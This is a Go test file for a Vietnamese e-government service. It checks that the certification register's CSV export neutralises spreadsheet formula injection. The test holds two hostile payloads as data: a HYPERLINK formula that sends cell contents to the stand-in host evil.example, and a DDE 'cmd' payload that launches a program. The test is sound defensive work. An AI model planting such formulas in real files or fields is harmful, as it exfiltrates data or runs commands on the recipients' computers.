package main

import (
	"encoding/csv"
	"net/url"
	"strings"
	"testing"

	"github.com/motcua/motcua"
	"github.com/motcua/motcua/internal/demo"
	"github.com/motcua/motcua/internal/pdfsig/pdfsigtest"
)

// TestCertificationBookCSVNeutralisesFormulas: a citizen renames
// themselves to a spreadsheet formula, asks for a certified copy of a
// paper whose name the officer types as another formula; the book's CSV
// export, opened by the agency in Excel, carries both as text.
func TestCertificationBookCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	ts := startServer(t, "--demo", "--data-dir", t.TempDir())
	citizen := demo.Citizens()[0]
	const name = `=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")`
	const original = `@SUM(1+1)*cmd|' /C calc'!A0`
	c := newBrowser(t)
	c.loginAt(ts, "vneid", citizen.Code, "motcua-demo")
	if resp, body := c.post(ts.url+"/tai-khoan/chinh-sua", url.Values{"name": {name},
		"birth_date": {citizen.BirthDate.Display()}, "phone": {citizen.Phone}, "email": {citizen.Email}}); resp.StatusCode != 200 {
		t.Fatalf("profile update: %d\n%s", resp.StatusCode, body)
	}
	var desk demo.DemoOfficer
	for _, o := range demo.Officers() {
		if o.Roles[0] == motcua.RoleCertification {
			desk = o
		}
	}
	b := officerLogin(t, ts, desk.Username, desk.Password, desk.TOTPSecret)
	fields := map[string]string{"requester_code": citizen.Code, "original_name": original,
		"original_category": demo.CategoryBirthCertificate, "original_number": "45/2020", "pages": "1"}
	resp, body := b.postMultipart(ts.url+"/can-bo/chung-thuc", fields, pdfsigtest.NewPDF(pdfsigtest.PDFOptions{Text: "Giay khai sinh"}))
	if resp.StatusCode != 200 || !strings.Contains(body, "Đã chứng thực bản sao điện tử") {
		t.Fatalf("issue: %d\n%s", resp.StatusCode, body)
	}
	resp, body = b.get(ts.url + "/can-bo/chung-thuc/so.csv")
	if resp.StatusCode != 200 {
		t.Fatalf("csv: %d\n%s", resp.StatusCode, body)
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("csv: %v\n%s", err, body)
	}
	for i, cell := range recs[1] {
		if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
			t.Errorf("cell %d = %q: a spreadsheet would run it as a formula", i, cell)
		}
	}
	if recs[1][2] != "'"+name || recs[1][4] != "'"+original {
		t.Fatalf("requester %q, original %q: want them kept as text", recs[1][2], recs[1][4])
	}
	if recs[1][0] != "1" || recs[1][6] != "1" {
		t.Fatalf("numbers changed: %q", recs[1])
	}
}
